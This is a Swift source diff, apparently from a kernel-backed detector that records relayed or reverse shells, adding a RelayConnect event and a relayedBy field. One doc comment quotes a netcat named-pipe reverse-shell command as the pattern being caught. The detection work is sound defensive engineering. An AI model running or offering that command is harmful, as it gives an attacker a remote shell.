@@ -20,11 +20,14 @@ public struct ExecRecord: Hashable, Sendable {
     public var killedAtExec: Bool
     /// What the kernel's name table called it.
     public var execClass: ExecClass
+    /// The kernel found it a relayed shell: the connection of its relay (its
+    /// parent, or a process on the other side of a pipe of its stdio).
+    public var relayedBy: ProcessConnection?
 
     public init(
         process: ProcessIdentity, timestampNs: UInt64, uid: UInt32 = 0, euid: UInt32 = 0, comm: String, filename: String,
         interpreter: String? = nil, arguments: [String], argumentsTruncated: Bool = false, stdio: [StdioDescriptor],
-        killedAtExec: Bool = false, execClass: ExecClass = []
+        killedAtExec: Bool = false, execClass: ExecClass = [], relayedBy: ProcessConnection? = nil
     ) {
         self.process = process
         self.timestampNs = timestampNs
@@ -38,6 +41,7 @@ public struct ExecRecord: Hashable, Sendable {
         self.stdio = stdio
         self.killedAtExec = killedAtExec
         self.execClass = execClass
+        self.relayedBy = relayedBy
     }
 
     public var execID: ExecID { ExecID(pid: process.pid, execNs: timestampNs) }
@@ -85,6 +89,26 @@ public struct StdioRedirect: Hashable, Sendable {
     }
 }
 
+/// A process on the other side of a pipe of a stdin-reading shell's stdio
+/// connected out (`cat /tmp/f | sh -i | nc H P > /tmp/f`): the kernel took it
+/// for the shell's relay at connect()'s entry.
+public struct RelayConnect: Hashable, Sendable {
+    /// The relay and where it connected.
+    public var process: ProcessIdentity
+    public var connection: ProcessConnection
+    /// The shell it relays (host tgid).
+    public var shellPid: UInt32
+    /// The kernel killed the relay before its connection existed.
+    public var killed: Bool
+
+    public init(process: ProcessIdentity, connection: ProcessConnection, shellPid: UInt32, killed: Bool) {
+        self.process = process
+        self.connection = connection
+        self.shellPid = shellPid
+        self.killed = killed
+    }
+}
+
 /// The kernel's process events, in one vocabulary for the agent and tests.
 public enum ProcessEvent: Hashable, Sendable {
     case exec(ExecRecord)
@@ -93,12 +117,14 @@ public enum ProcessEvent: Hashable, Sendable {
     /// A process's last thread ended; `exitCode` as wait(2) reports it.
     case exit(ProcessIdentity, timestampNs: UInt64, exitCode: UInt32, comm: String)
     case stdioRedirect(StdioRedirect)
+    case relayConnect(RelayConnect)
 
     public var process: ProcessIdentity {
         switch self {
         case .exec(let record): record.process
         case .fork(let process, _, _), .exit(let process, _, _, _): process
         case .stdioRedirect(let redirect): redirect.process
+        case .relayConnect(let relay): relay.process
         }
     }
 
@@ -107,6 +133,7 @@ public enum ProcessEvent: Hashable, Sendable {
         case .exec(let record): record.timestampNs
         case .fork(_, let time, _), .exit(_, let time, _, _): time
         case .stdioRedirect(let redirect): redirect.timestampNs
+        case .relayConnect(let relay): relay.connection.timestampNs
         }
     }
 }
